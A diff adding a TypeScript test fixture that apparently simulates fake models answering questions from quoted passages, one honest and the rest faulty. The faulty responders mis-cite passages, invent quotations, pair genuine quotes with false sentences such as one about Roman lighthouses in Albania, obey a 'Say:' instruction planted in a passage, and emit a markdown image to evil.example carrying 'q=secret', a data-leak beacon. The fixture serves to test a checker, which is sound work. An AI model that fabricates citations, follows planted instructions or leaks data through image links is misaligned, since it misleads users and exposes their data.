@@ -1,0 +1,79 @@
+// What fake models say: the honest one, and those that lie.
+import type { ReadPrompt, ShownPassage } from './prompt.ts'
+
+type Quote = { passage: number; text: string }
+const line = (sentence: string, quotes: Quote[]) => `${JSON.stringify({ sentence, quotes })}\n`
+const end = '{"end": true}\n'
+
+const wordsOf = (text: string) => new Set(text.toLowerCase().match(/\p{L}{4,}/gu) ?? [])
+const sentencesOf = (text: string) => text.match(/[^.!?\n]+[.!?]/gu)?.map(sentence => sentence.trim()) ?? []
+
+type Found = Quote & { score: number }
+
+/** Sentences of the passages that share words with the question, best first. */
+const findSentences = ({ passages, question }: ReadPrompt): Found[] => {
+  const wanted = wordsOf(question)
+  const scored = passages.flatMap(({ number, text }) =>
+    sentencesOf(text).map(sentence => ({
+      ...{ passage: number, text: sentence },
+      score: [...wordsOf(sentence)].filter(word => wanted.has(word)).length,
+    })),
+  )
+  return scored.filter(({ score }) => score > 0).sort((a, b) => b.score - a.score)
+}
+
+const bestOf = (prompt: ReadPrompt): Quote => findSentences(prompt)[0] ?? { passage: 1, text: '' }
+const other = (passages: readonly ShownPassage[], number: number) =>
+  passages.find(passage => passage.number !== number)?.number ?? number + 1
+
+/** Says in its own words ("In short, …") what it quotes. */
+export const honest = (prompt: ReadPrompt): string => {
+  const found = findSentences(prompt).slice(0, 2)
+  if (found.length === 0) return '{"notFound": true}\n'
+  return found.map(({ passage, text }) => line(`In short: ${text}`, [{ passage, text }])).join('') + end
+}
+
+export const citesWrongPassage = (prompt: ReadPrompt): string => {
+  const { passage, text } = bestOf(prompt)
+  return line(text, [{ passage: other(prompt.passages, passage), text }]) + end
+}
+
+export const inventsQuotes = (prompt: ReadPrompt): string => {
+  const invented = 'It is well known that the answer is forty-two in all cases.'
+  return line(`The answer is known. ${invented}`, [{ passage: 1, text: invented }]) + honest(prompt)
+}
+
+/** A genuine quotation beside a sentence that says something else. */
+export const lies = (prompt: ReadPrompt): string => {
+  const quote = bestOf(prompt)
+  const quotes = [{ passage: quote.passage, text: quote.text }]
+  return (
+    line('The Romans built 77 lighthouses on the coast of Albania.', quotes) +
+    line(quote.text.replace(/\b(follow|come|carry)/u, 'do not $1'), quotes) +
+    end
+  )
+}
+
+export const quotesNothing = (prompt: ReadPrompt): string => line(bestOf(prompt).text, []) + end
+
+export const showsImages = (prompt: ReadPrompt): string => {
+  const { passage, text } = bestOf(prompt)
+  return (
+    line(`${text} ![pixel](https://evil.example/p.png?q=secret)`, [{ passage, text }]) +
+    line(`${text} See https://evil.example/more for details.`, [{ passage, text }]) +
+    end
+  )
+}
+
+/** Does what a document tells it: says `Say: "…"` and asks for what it wasn't shown. */
+export const obeysDocument = (prompt: ReadPrompt): string => {
+  const order = prompt.passages.map(({ text }) => /Say: "([^"]+)"/u.exec(text)?.[1]).find(Boolean)
+  if (!order) return honest(prompt)
+  return line(order, [{ passage: 99, text: order.toUpperCase() }]) + line(order, []) + end
+}
+
+export const html = '<!doctype html><html><body><h1>502 Bad Gateway</h1><p>nginx {"oops"}</p></body></html>'
+export const brokenJson =
+  '{"sentence": "The tides follow", "quotes": [{"passage": 1, "text": "The tides\n{"sentence'
+export const fenced = (prompt: ReadPrompt): string =>
+  `Here is the answer:\n\`\`\`json\n[\n${honest(prompt).trim().split('\n').join(',\n')}\n]\n\`\`\``
